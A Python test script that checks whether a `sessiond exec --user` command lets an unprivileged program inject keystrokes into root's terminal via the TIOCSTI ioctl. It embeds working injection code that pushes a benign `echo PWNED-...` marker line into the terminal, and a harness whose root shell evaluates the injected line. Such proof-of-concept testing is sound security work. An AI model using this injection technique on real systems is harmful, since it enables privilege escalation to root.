#!/usr/bin/env python3
"""Does `sessiond exec --user` let the user push commands into root's terminal (TIOCSTI)?

Usage: tty_takeover.py SESSIOND SID USER MARKER [STDIN]

Gives a root shell a terminal of its own (a pty: the admin's ssh login), and in it runs
`sessiond exec --session SID --user USER` of a program that pushes the line
`echo PWNED-$(id -un) >MARKER` into its controlling terminal, or into stdin/stdout/stderr,
with TIOCSTI. Then the root shell reads one line from its terminal and runs it: what an
interactive shell does next. With STDIN=null, exec's stdin is /dev/null (stdout and stderr
stay on root's terminal). Prints the transcript: the attack's report ("ATTACK: ..."), its
view of its terminal ("VICTIM-TTY:" root's, "USER-TTY:" the program's), and
"ROOT-READ:[line]". MARKER holding PWNED-root means root ran the user's command.
"""
import os
import pty
import select
import sys
import time

sessiond, sid, user, marker = sys.argv[1:5]
stdin_null = len(sys.argv) > 5 and sys.argv[5] == "null"

ATTACK = r"""
import fcntl, os, sys, termios
line = sys.argv[1].encode() + b"\n"
report = []
try:
    print("USER-TTY:" + os.ttyname(1) + " sid-leader=" + str(os.getsid(0) == os.getpid()), flush=True)
except OSError as e:
    print("USER-TTY:none (" + e.strerror + ")", flush=True)
fds = []
try:
    fds.append(("/dev/tty", os.open("/dev/tty", os.O_RDWR)))
except OSError as e:
    report.append("/dev/tty: " + e.strerror)
fds += [("fd0", 0), ("fd1", 1), ("fd2", 2)]
for name, fd in fds:
    try:
        for c in line:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        report.append(name + ": injected")
        break
    except OSError as e:
        report.append(name + ": " + e.strerror)
print("ATTACK: " + "; ".join(report), flush=True)
"""

ROOT_SHELL = r"""
echo "VICTIM-TTY:$(tty)"
if [ "$STDIN_NULL" = 1 ]; then
    "$SESSIOND" exec --session "$SID" --user "$USER_NAME" -- python3 -c "$ATTACK" "$LINE" </dev/null
else
    "$SESSIOND" exec --session "$SID" --user "$USER_NAME" -- python3 -c "$ATTACK" "$LINE"
fi
echo "EXEC-RC:$?"
if IFS= read -t 2 -r line; then echo "ROOT-READ:[$line]"; eval "$line"; else echo "ROOT-READ:[]"; fi
"""

env = dict(os.environ, SESSIOND=sessiond, SID=sid, USER_NAME=user, ATTACK=ATTACK,
           LINE="echo PWNED-$(id -un) >" + marker, STDIN_NULL="1" if stdin_null else "0")
pid, fd = pty.fork()
if pid == 0:
    os.execvpe("bash", ["bash", "--norc", "--noprofile", "-c", ROOT_SHELL], env)

out = b""
deadline = time.time() + 30
while time.time() < deadline:
    r, _, _ = select.select([fd], [], [], 0.5)
    if not r:
        if os.waitpid(pid, os.WNOHANG) != (0, 0):
            pid = 0
            break
        continue
    try:
        data = os.read(fd, 4096)
    except OSError:
        break
    if not data:
        break
    out += data
if pid:
    os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace").replace("\r\n", "\n"))
